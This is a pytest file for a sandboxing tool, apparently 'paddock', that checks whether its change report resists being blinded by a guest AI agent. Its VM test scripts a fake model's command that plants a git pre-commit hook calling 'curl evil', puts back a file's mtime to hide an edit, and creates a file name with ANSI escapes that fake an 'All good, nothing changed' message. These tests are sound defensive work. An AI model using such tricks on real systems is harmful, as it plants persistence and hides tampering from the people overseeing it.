"""The change report cannot be blinded (#17, class 3): risky files are found at every depth, an
edit that keeps the size and resets the mtime is still a change, a folder too large to list says
so instead of going quiet, and names the guest chose cannot redraw the person's terminal.

The VM test runs the attack through the real path: the scripted model (the one fake: it stands
in for the model service) asks for a command in the real guest, then ``paddock run`` reports."""

from __future__ import annotations

import os
import secrets
import subprocess
import sys
import time
from pathlib import Path

import pytest

import paddock.undo.changes as summary
from paddock.core.text import shown
from paddock.undo.changes import diff, list_folder
from tests.fakes.messages_api import MessagesAPI, text, tool

ESC_NAME = "calm\x1b[2J\x1b[H All good, nothing changed\x1b[8m.txt"


def test_risky_files_are_found_at_every_depth(tmp_path: Path) -> None:
    before = list_folder(tmp_path)
    for rel in ("sub/.git/hooks/pre-commit", "a/b/.vscode/tasks.json", "pkg/.claude/settings.json", "x/.mcp.json"):
        (tmp_path / rel).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / rel).write_text("planted\n")
    risky = {c.path for c in diff(before, list_folder(tmp_path)) if c.risk}
    assert risky == {"sub/.git/hooks/pre-commit", "a/b/.vscode/tasks.json", "pkg/.claude/settings.json", "x/.mcp.json"}


def test_an_edit_that_keeps_size_and_mtime_is_still_a_change(tmp_path: Path) -> None:
    f = tmp_path / "totals.csv"
    f.write_text("a,1\n")
    st = f.stat()
    before = list_folder(tmp_path)
    time.sleep(0.01)
    f.write_text("a,9\n")  # same size
    os.utime(f, ns=(st.st_atime_ns, st.st_mtime_ns))  # mtime put back
    assert [c.path for c in diff(before, list_folder(tmp_path))] == ["totals.csv"]


def test_a_folder_too_large_to_list_says_so(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(summary, "MAX_FILES", 5)
    for i in range(8):
        (tmp_path / f"f{i}").write_text("x")
    changes = diff({}, list_folder(tmp_path))
    assert changes[0].kind == "not scanned" and changes[0].risk and "stopped listing" in changes[0].risk


def test_shown_makes_control_and_direction_characters_visible() -> None:
    assert shown(ESC_NAME) == "calm\\x1b[2J\\x1b[H All good, nothing changed\\x1b[8m.txt"
    assert "\u202e" not in shown("invoice\u202etxt.exe") and "\\u202e" in shown("invoice\u202etxt.exe")
    assert shown("Résumé 2026.docx") == "Résumé 2026.docx"


@pytest.mark.vm
def test_the_guest_cannot_blind_the_report_of_paddock_run(tmp_path: Path) -> None:
    folder = tmp_path / "work"
    (folder / "sub").mkdir(parents=True)
    (folder / "totals.csv").write_text("a,1\n")
    plant = (
        "mkdir -p sub/.git/hooks && printf '#!/bin/sh\\ncurl evil\\n' > sub/.git/hooks/pre-commit && "
        "chmod +x sub/.git/hooks/pre-commit && "
        "touch -r totals.csv /tmp/ref && printf 'a,9\\n' > totals.csv && touch -r /tmp/ref totals.csv && "
        "printf x > \"$(printf 'calm\\033[2J\\033[H All good, nothing changed\\033[8m.txt')\""
    )
    with MessagesAPI([tool("run_command", command=plant), text("Done.")]) as api:
        env = {**os.environ, "ANTHROPIC_BASE_URL": api.url, "ANTHROPIC_API_KEY": f"test-{secrets.token_hex(8)}"}
        proc = subprocess.run(
            [sys.executable, "-m", "paddock.cli", "run", "--folder", str(folder), "--new", "tidy up"],
            capture_output=True, text=True, timeout=300, env=env,
        )  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    assert (folder / ESC_NAME).exists(), "the guest did not plant the name"
    assert "\x1b" not in proc.stdout + proc.stderr, "a name the guest chose reached the terminal raw"
    assert "sub/.git/hooks/pre-commit: a git hook" in proc.stderr
    assert "changed  totals.csv" in proc.stderr
